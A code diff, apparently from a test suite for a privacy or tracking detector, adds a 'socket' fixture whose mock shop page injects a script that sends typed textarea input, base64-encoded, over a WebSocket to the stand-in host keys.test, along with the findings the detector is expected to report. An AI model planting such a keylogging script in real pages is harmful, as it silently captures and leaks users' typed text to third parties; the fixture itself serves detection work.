@@ -112,4 +112,31 @@ const typed: Technique = {
   },
 };
 
-export const choices: readonly Technique[] = [early, refusal, hard, keys, typed];
+const socket: Technique = {
+  title: "key logging through a socket, encoded",
+  visits: ["type"],
+  site: (deed) => ({
+    "shop.test/": page(
+      `<form action="/ask"><label>Message <textarea name=message></textarea></label></form>${script(
+        `const socket = new WebSocket("wss://keys.test/live");
+         document.querySelector("textarea").addEventListener("input", ({ target }) =>
+           socket.send(JSON.stringify({ at: Date.now(), v: btoa(${deed ? "target.value.slice(0, 40)" : "target.value.length"}) })));`,
+      )}`,
+    ),
+    "keys.test/live": "",
+  }),
+  finds: {
+    "key-logging": {
+      what: ["keys.test"],
+      witness: /^disclosure text message wss:\/\/keys\.test\/live$/,
+    },
+  },
+  both: { "third-parties-before-choice": ["keys.test"] },
+  beside: {
+    "third-parties-before-choice": ["keys.test"],
+    "typed-text-before-submit": ["keys.test"],
+    "personal-data-to-third-parties": ["text → keys.test"],
+  },
+};
+
+export const choices: readonly Technique[] = [early, refusal, hard, keys, socket, typed];
